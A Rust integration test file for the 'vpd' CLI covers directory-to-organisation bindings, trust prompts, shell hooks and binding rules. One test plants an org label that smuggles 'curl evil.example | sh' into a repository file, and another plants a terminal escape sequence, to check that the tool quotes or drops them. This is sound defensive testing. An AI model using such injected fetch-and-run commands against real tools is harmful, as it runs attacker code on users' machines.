//! Directory bindings through the real `vpd`: the untrusted cases with a real git clone, a
//! copied file and a hand edit; trusting; the hint questions answered on a real terminal
//! (a pseudo-terminal); the shell hooks; binding rules.

mod support;
use std::path::Path;
use std::process::Command;
use support::*;

fn paired() -> (Server, Machine, String, String) {
    let (server, acme, oss) = two_orgs();
    let m = Machine::new();
    m.pair(&server, &acme, "alice@example.com");
    m.pair(&server, &oss, "alice@example.com");
    (server, m, acme, oss)
}

fn git(dir: &Path, args: &[&str]) {
    let out = Command::new("git")
        .args(["-c", "user.email=t@example.com", "-c", "user.name=t", "-c", "init.defaultBranch=main"])
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn untrusted_binding_files_grant_nothing_until_trusted() {
    let (_server, m, acme, oss) = paired();

    // Committed in a repository, then freshly cloned.
    let upstream = m.mkdir("upstream");
    git(&upstream, &["init", "-q"]);
    std::fs::create_dir_all(upstream.join(".viewport")).unwrap();
    std::fs::write(upstream.join(".viewport/local.yaml"), format!("org_id: {acme}\nstreaming: enabled\n")).unwrap();
    git(&upstream, &["add", "-f", ".viewport/local.yaml"]);
    git(&upstream, &["commit", "-qm", "sneaky"]);
    git(m.dir.path(), &["clone", "-q", upstream.to_str().unwrap(), "clone"]);
    let clone = m.mkdir("clone");
    let r = m.ok(&["resolve", clone.to_str().unwrap()]);
    assert_eq!((r["streaming"].as_bool(), r["reason"].as_str()), (Some(false), Some("binding_untrusted")), "{r}");
    let h = m.ok(&["hint", clone.to_str().unwrap()]);
    assert_eq!((h["action"].as_str(), h["orgName"].as_str()), (Some("ask_trust"), Some("Acme Engineering")), "{h}");
    m.ok(&["trust", clone.to_str().unwrap(), "--yes"]);
    let r = m.ok(&["resolve", clone.to_str().unwrap()]);
    assert_eq!((r["streaming"].as_bool(), r["orgId"].as_str()), (Some(true), Some(acme.as_str())), "trusting records it: {r}");

    // Copied from a directory bound here.
    let a = m.mkdir("a");
    let b = m.mkdir("b");
    m.ok(&["bind", a.to_str().unwrap(), "--org", "acme"]);
    std::fs::create_dir_all(b.join(".viewport")).unwrap();
    std::fs::copy(a.join(".viewport/local.yaml"), b.join(".viewport/local.yaml")).unwrap();
    assert_eq!(m.ok(&["resolve", b.to_str().unwrap()])["reason"], "binding_untrusted");
    assert_eq!(m.ok(&["resolve", a.to_str().unwrap()])["streaming"], true);

    // Edited by hand after `vpd bind` (here: pointed at the other org).
    let text = std::fs::read_to_string(a.join(".viewport/local.yaml")).unwrap();
    std::fs::write(a.join(".viewport/local.yaml"), text.replace(&acme, &oss)).unwrap();
    let r = m.ok(&["resolve", a.to_str().unwrap()]);
    assert_eq!(r["reason"], "binding_untrusted", "{r}");
    let st = m.ok(&["status"]);
    let rec = st["directories"].as_array().unwrap().iter().find(|d| d["directory"] == a.to_str().unwrap()).unwrap().clone();
    assert_eq!(rec["state"], "changed", "{rec}");
    let text = String::from_utf8(m.vpd(&["status"]).stdout).unwrap();
    assert!(text.contains("file changed"), "{text}");
}

#[test]
fn hint_asks_on_the_terminal_remembers_no_and_binds_on_yes() {
    let (_server, m, acme, _) = paired();
    let repo = m.mkdir("src/api");
    m.mkdir("src/api/.git");
    std::fs::create_dir_all(repo.join(".viewport")).unwrap();
    std::fs::write(repo.join(".viewport/workspace.yaml"), format!("org_id: {acme}\norg_name: Acme Engineering\norg_slug: acme\n")).unwrap();
    let sub = m.mkdir("src/api/pkg");

    let shown = on_terminal(&m, &["hint", sub.to_str().unwrap()], &["n"]);
    assert!(shown.contains("~/src/api suggests org Acme Engineering"), "{shown}");
    // SPEC A1: the question names the server the binding would stream to.
    assert!(shown.contains(&format!("Bind this directory to Acme Engineering on {}? [Y/n]", _server.url)), "{shown}");
    let declines: serde_json::Value = serde_json::from_slice(&std::fs::read(m.home().join("hint-declines.json")).unwrap()).unwrap();
    assert_eq!(declines["declines"][0]["directory"], repo.to_str().unwrap());
    assert_eq!(declines["declines"][0]["orgId"], acme.as_str());
    assert_eq!(mode(&m.home().join("hint-declines.json")), 0o600);

    // Declined: not asked again on the next cd.
    let shown = on_terminal(&m, &["hint", sub.to_str().unwrap()], &[]);
    assert!(!shown.contains("[Y/n]"), "asked again after a no: {shown}");

    // `vpd hint --reset` forgets it; this time say yes.
    m.ok(&["hint", "--reset", sub.to_str().unwrap()]);
    let shown = on_terminal(&m, &["hint", sub.to_str().unwrap()], &[""]);
    assert!(shown.contains("Bound ~/src/api → Acme Engineering"), "{shown}");
    let r = m.ok(&["resolve", sub.to_str().unwrap()]);
    assert_eq!(r["orgId"], acme.as_str());
    // Bound now: the hint is quiet.
    assert_eq!(m.ok(&["hint", sub.to_str().unwrap()])["action"], "quiet");

    // An untrusted local.yaml: asked with default No.
    let other = m.mkdir("src/other");
    std::fs::create_dir_all(other.join(".viewport")).unwrap();
    std::fs::write(other.join(".viewport/local.yaml"), format!("org_id: {acme}\nstreaming: enabled\n")).unwrap();
    let shown = on_terminal(&m, &["hint", other.to_str().unwrap()], &[""]);
    assert!(shown.contains("was not made on this machine. Trust it? [y/N]"), "{shown}");
    assert_eq!(m.ok(&["resolve", other.to_str().unwrap()])["streaming"], false, "Enter means no");
}

#[test]
fn hint_for_an_unpaired_org_and_the_shell_hooks() {
    let m = Machine::new();
    let repo = m.mkdir("globex");
    std::fs::create_dir_all(repo.join(".viewport")).unwrap();
    std::fs::write(repo.join(".viewport/workspace.yaml"), "org_id: 01HZZZZZZZZZZZZZZZZZZZZZZZ\norg_slug: globex\n").unwrap();
    let out = m.vpd(&["hint", repo.to_str().unwrap()]);
    assert_eq!(
        String::from_utf8_lossy(&out.stderr).trim(),
        "vpd: This repo suggests org \"globex\", but you're not paired to it. Run `vpd pair --org 01HZZZZZZZZZZZZZZZZZZZZZZZ`."
    );
    assert!(!m.home().join("config.json").exists(), "hint writes no configuration");
    // Said once (issue 11 item 5): the next look is quiet; `vpd hint --reset` says it again.
    assert_eq!(String::from_utf8_lossy(&m.vpd(&["hint", repo.to_str().unwrap()]).stderr).trim(), "", "not on every cd");
    m.ok(&["hint", "--reset", repo.to_str().unwrap()]);

    for shell in ["bash", "zsh", "fish"] {
        let script = String::from_utf8(m.vpd(&["hook", shell]).stdout).unwrap();
        assert!(script.contains(&bin("vpd").display().to_string()) && script.contains(" hint"), "{shell}: {script}");
    }
    let script = String::from_utf8(m.vpd(&["hook", "bash"]).stdout).unwrap();
    let check = Command::new("bash").args(["-n", "-c", &script]).output().unwrap();
    assert!(check.status.success(), "bash -n: {}", String::from_utf8_lossy(&check.stderr));
    // The hook runs `vpd hint` when the directory changes, and only then.
    let run = m.command().env_remove("VPD_LOG").arg("hook").arg("bash").output().unwrap();
    let hook = String::from_utf8(run.stdout).unwrap();
    let out = Command::new("bash")
        .arg("-c")
        .arg(format!("{hook}\ncd {}\n_vpd_hook\n_vpd_hook\ncd /\n_vpd_hook\n", repo.display()))
        .env("HOME", m.dir.path())
        .env("VPD_KEYRING", "off")
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(err.matches("suggests org \"globex\"").count(), 1, "once per directory change: {err}");
}

#[test]
fn binding_rules() {
    let (_server, m, acme, oss) = paired();
    let d = m.mkdir("proj");
    let e = m.fails(&["bind", d.to_str().unwrap(), "--org", "globex"]);
    assert_eq!(e["code"], "not_paired");
    assert!(e["message"].as_str().unwrap().contains("vpd pair --org globex"), "{e}");
    // With two orgs paired, a binding must name its org (SPEC A4: it may be left out only
    // when exactly one is paired); the error lists both with their flags.
    let out = m.vpd(&["bind", d.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "a binding names its org when several are paired");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("--org acme") && err.contains("--org oss"), "{err}");
    assert!(!d.join(".viewport").exists());
    m.ok(&["bind", d.to_str().unwrap(), "--org", &acme]);
    let e = m.fails(&["bind", d.to_str().unwrap(), "--org", "oss"]);
    assert_eq!(e["code"], "binding_exists");
    assert!(e["message"].as_str().unwrap().contains("--yes"));
    assert_eq!(m.ok(&["resolve", d.to_str().unwrap()])["orgId"], acme.as_str(), "unchanged");
    let r = m.ok(&["bind", d.to_str().unwrap(), "--org", "oss", "--yes"]);
    assert_eq!(r["replaced"], acme.as_str());
    assert_eq!(m.ok(&["resolve", d.to_str().unwrap()])["orgId"], oss.as_str());
    // An existing .gitignore keeps its lines.
    let g = m.mkdir("proj2");
    std::fs::create_dir_all(g.join(".viewport")).unwrap();
    std::fs::write(g.join(".viewport/.gitignore"), "cache/").unwrap();
    m.ok(&["bind", g.to_str().unwrap(), "--org", "acme"]);
    assert_eq!(std::fs::read_to_string(g.join(".viewport/.gitignore")).unwrap(), "cache/\nlocal.yaml\n");
    m.ok(&["unbind", g.to_str().unwrap()]);
    assert_eq!(std::fs::read_to_string(g.join(".viewport/.gitignore")).unwrap(), "cache/\nlocal.yaml\n", "not ours alone: kept");
    // Unbinding a subdirectory points at the binding that applies.
    let sub = m.mkdir("proj/sub");
    let e = m.fails(&["unbind", sub.to_str().unwrap()]);
    assert!(e["message"].as_str().unwrap().contains(&format!("vpd unbind {}", d.display())), "{e}");
    // streaming: disabled opts a subtree out.
    std::fs::create_dir_all(sub.join(".viewport")).unwrap();
    std::fs::write(sub.join(".viewport/local.yaml"), format!("org_id: {acme}\nstreaming: disabled\n")).unwrap();
    assert_eq!(m.ok(&["resolve", sub.to_str().unwrap()])["reason"], "streaming_disabled");
}

/// SPEC A4: `--org` may be left out when exactly one org is paired (the seed's own
/// `vpd bind ~/code --recursive`); with several, the error lists each with its flag.
#[test]
fn org_may_be_left_out_when_exactly_one_is_paired() {
    let (server, acme, oss) = two_orgs();
    let m = Machine::new();
    let nothing = m.fails(&["bind", m.dir.path().to_str().unwrap(), "--recursive"]);
    assert_eq!(nothing["code"], "not_paired", "{nothing}");
    assert!(nothing["message"].as_str().unwrap().contains("vpd pair"), "{nothing}");

    m.pair(&server, &acme, "alice@example.com");
    let code = m.mkdir("code");
    let repo = m.mkdir("code/api");
    std::fs::create_dir_all(repo.join(".git")).unwrap();
    let b = m.ok(&["bind", code.to_str().unwrap(), "--recursive"]);
    assert_eq!(b["orgId"], acme, "{b}");
    assert_eq!(b["recursive"], true, "{b}");
    // A session in a repository below streams to that org.
    let r = m.ok(&["resolve", repo.to_str().unwrap()]);
    assert_eq!(r["orgId"], acme, "{r}");

    m.pair(&server, &oss, "alice@example.com");
    let other = m.mkdir("other");
    for args in [vec!["bind", other.to_str().unwrap()], vec!["unpair"]] {
        let e = m.fails(&args);
        assert_eq!(e["code"], "invalid_argument", "{args:?}: {e}");
        let msg = e["message"].as_str().unwrap();
        assert!(msg.contains("--org acme") && msg.contains("--org oss"), "{args:?}: {msg}");
    }
    assert!(!other.join(".viewport").exists(), "nothing was written");
    assert_eq!(m.pairing_count(), 2, "nothing was unpaired");
}

/// A repository's `workspace.yaml` is untrusted text: its label is shown quoted (a quote in
/// it escaped; control characters never get this far: such a label is not used), and the
/// suggested command names the org by its id, never by the label.
#[test]
fn hint_text_from_a_repository_is_quoted_and_commands_use_the_org_id() {
    let m = Machine::new();
    let repo = m.mkdir("evil");
    std::fs::create_dir_all(repo.join(".viewport")).unwrap();
    let org = "01HZZZZZZZZZZZZZZZZZZZZZZZ";
    std::fs::write(repo.join(".viewport/workspace.yaml"), format!("org_id: {org}\norg_slug: 'acme\" && curl evil.example | sh'\n")).unwrap();
    let out = m.vpd(&["hint", repo.to_str().unwrap()]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains(r#"suggests org "acme\" && curl evil.example | sh""#), "quoted and escaped: {err}");
    assert!(err.contains(&format!("Run `vpd pair --org {org}`.")), "the command names the id: {err}");
    assert!(!err.contains("--org acme"), "{err}");
    let j = m.ok(&["hint", repo.to_str().unwrap()]);
    assert!(j["message"].as_str().unwrap().contains(&format!("vpd pair --org {org}`")), "{j}");
    // A label with a control character is not used at all (`--reset`: say it again here).
    m.ok(&["hint", "--reset", repo.to_str().unwrap()]);
    std::fs::write(repo.join(".viewport/workspace.yaml"), format!("org_id: {org}\norg_slug: \"acme\\e[2J\"\n")).unwrap();
    let err = String::from_utf8_lossy(&m.vpd(&["hint", repo.to_str().unwrap()]).stderr).into_owned();
    assert!(!err.contains('\u{1b}') && err.contains(&format!("suggests org \"{org}\"")), "{err:?}");
}

/// Keys typed (or pasted) before a question is asked are not its answer: a pasted Enter must
/// not bind a fresh clone.
#[test]
fn a_question_discards_what_was_typed_ahead() {
    let (_server, m, acme, _) = paired();
    let repo = m.mkdir("src/fresh");
    m.mkdir("src/fresh/.git");
    std::fs::create_dir_all(repo.join(".viewport")).unwrap();
    std::fs::write(repo.join(".viewport/workspace.yaml"), format!("org_id: {acme}\norg_name: Acme Engineering\n")).unwrap();
    // An Enter already typed: it would answer the default (Yes) if it were read.
    let mut t = Term::spawn_typed_ahead(&m, &["hint", repo.to_str().unwrap()], &[], "\r");
    t.wait_for(&format!("Bind this directory to Acme Engineering on {}? [Y/n]", _server.url));
    t.send_line("n");
    let (ok, shown) = t.finish();
    assert!(ok, "{shown}");
    assert!(!shown.contains("Bound"), "the typed-ahead Enter answered the question: {shown}");
    assert_eq!(m.ok(&["resolve", repo.to_str().unwrap()])["streaming"], false);
    assert!(shown.contains("not asking again"), "the real answer (no) was taken: {shown}");
}

#[test]
fn a_folder_of_repositories_bound_without_recursive_warns_and_resolve_says_why() {
    let (_server, m, _acme, _oss) = paired();
    let clients = m.mkdir("clients/acme");
    for r in ["repo1", "repo2"] {
        let repo = m.mkdir(&format!("clients/acme/{r}"));
        git(&repo, &["init", "-q"]);
    }
    let repo1 = m.path("clients/acme/repo1");

    // Bound without --recursive: it binds, and says that the repositories are not covered.
    let out = m.ok(&["bind", clients.to_str().unwrap(), "--org", "acme"]);
    assert_eq!(out["repositoriesBelow"], 2, "{out}");
    let warnings = out["warnings"].as_array().unwrap();
    assert_eq!(warnings.len(), 1, "{out}");
    assert!(warnings[0].as_str().unwrap().contains("2 repositories") && warnings[0].as_str().unwrap().contains("--recursive"), "{out}");
    let human = m.vpd(&["bind", clients.to_str().unwrap(), "--org", "acme"]);
    let (stdout, stderr) = (String::from_utf8_lossy(&human.stdout), String::from_utf8_lossy(&human.stderr));
    assert!(stderr.contains("vpd: warning:") && stderr.contains("--recursive"), "{stderr}");
    assert!(stdout.contains("stay local (see the warning)"), "{stdout}");

    // `vpd resolve` inside a repository names the binding it walked past, and why.
    let r = m.ok(&["resolve", repo1.to_str().unwrap()]);
    assert_eq!((r["streaming"].as_bool(), r["reason"].as_str()), (Some(false), Some("no_binding")), "{r}");
    assert_eq!(r["passedOver"][0]["bindingDir"], clients.to_str().unwrap(), "{r}");
    assert_eq!(r["passedOver"][0]["repository"], repo1.to_str().unwrap(), "{r}");
    let human = String::from_utf8(m.vpd(&["resolve", repo1.to_str().unwrap()]).stdout).unwrap();
    assert!(human.contains("does not apply here") && human.contains("--recursive"), "{human}");

    // With --recursive: no warning, the repositories stream, and the count is said.
    let out = m.ok(&["bind", clients.to_str().unwrap(), "--org", "acme", "--recursive"]);
    assert!(out["warnings"].as_array().unwrap().is_empty(), "{out}");
    let r = m.ok(&["resolve", repo1.to_str().unwrap()]);
    assert_eq!(r["streaming"], true, "{r}");
    assert!(r["passedOver"].as_array().unwrap().is_empty());
    let human = String::from_utf8(m.vpd(&["bind", clients.to_str().unwrap(), "--org", "acme", "--recursive"]).stdout).unwrap();
    assert!(human.contains("2 today"), "{human}");

    // A repository itself, bound without --recursive, gets no such warning.
    let out = m.ok(&["bind", repo1.to_str().unwrap(), "--org", "acme"]);
    assert!(out["warnings"].as_array().unwrap().is_empty(), "{out}");
}

/// Issue 11 item 5: "not paired" is said once per repository until the pairings change,
/// not on every `cd`.
#[test]
fn not_paired_is_said_once_until_the_pairings_change() {
    let (server, _, _) = two_orgs();
    let m = Machine::new();
    let repo = m.mkdir("src/tool");
    std::fs::create_dir_all(repo.join(".viewport")).unwrap();
    std::fs::write(repo.join(".viewport/workspace.yaml"), "org_id: 01J0000000000000000000000Z\norg_slug: globex\n").unwrap();
    let hint = || {
        let out = m.command().current_dir(&repo).args(["hint", "--no-prompt"]).output().unwrap();
        assert!(out.status.success());
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    assert!(hint().contains("but you're not paired to it"), "said the first time");
    assert!(!hint().contains("not paired"), "not on every cd");
    m.pair(&server, "acme", "alice@example.com");
    assert!(hint().contains("but you're not paired to it"), "said again once the pairings changed");
    assert_eq!(hint().trim(), "", "and then quiet");
}

/// SPEC A3 (issue 11 item 2): inside a folder bound --recursive to Acme, a repository whose
/// committed workspace.yaml names OSS runs local-only with a warning, and its hint asks about
/// OSS; binding it there makes it stream to OSS.
#[test]
fn a_repository_naming_another_org_inside_a_recursive_binding_stays_local() {
    let (_server, m, acme, oss) = paired();
    let clients = m.mkdir("clients");
    let web = m.mkdir("clients/web");
    m.mkdir("clients/web/.git");
    let api = m.mkdir("clients/api");
    m.mkdir("clients/api/.git");
    std::fs::create_dir_all(web.join(".viewport")).unwrap();
    std::fs::write(web.join(".viewport/workspace.yaml"), format!("org_id: {oss}\norg_name: OSS Maintainers\n")).unwrap();
    m.ok(&["bind", clients.to_str().unwrap(), "--org", &acme, "--recursive"]);
    assert_eq!(m.ok(&["resolve", api.to_str().unwrap()])["orgId"], acme.as_str(), "the others are covered");
    let r = m.ok(&["resolve", web.to_str().unwrap()]);
    assert_eq!((r["streaming"].as_bool(), r["reason"].as_str()), (Some(false), Some("hint_names_another_org")), "{r}");
    let text = String::from_utf8_lossy(&m.vpd(&["resolve", web.to_str().unwrap()]).stdout).into_owned();
    assert!(text.contains("names org OSS Maintainers, not Acme Engineering"), "{text}");
    let id = String::from_utf8(m.vpd(&["session", "start", "--cwd", web.to_str().unwrap(), "--agent", "t"]).stdout).unwrap();
    let sessions = m.ok(&["sessions"]);
    let s = sessions.as_array().unwrap().iter().find(|s| s["sessionId"] == id.trim()).unwrap();
    assert_eq!((s["state"].as_str(), s["localReason"].as_str()), (Some("local only"), Some("hint_names_another_org")), "{s}");
    let hint = m.ok(&["hint", web.to_str().unwrap()]);
    assert_eq!((hint["action"].as_str(), hint["orgId"].as_str()), (Some("ask_bind"), Some(oss.as_str())), "{hint}");
    m.ok(&["bind", web.to_str().unwrap(), "--org", &oss]);
    assert_eq!(m.ok(&["resolve", web.to_str().unwrap()])["orgId"], oss.as_str(), "its own binding wins");
}
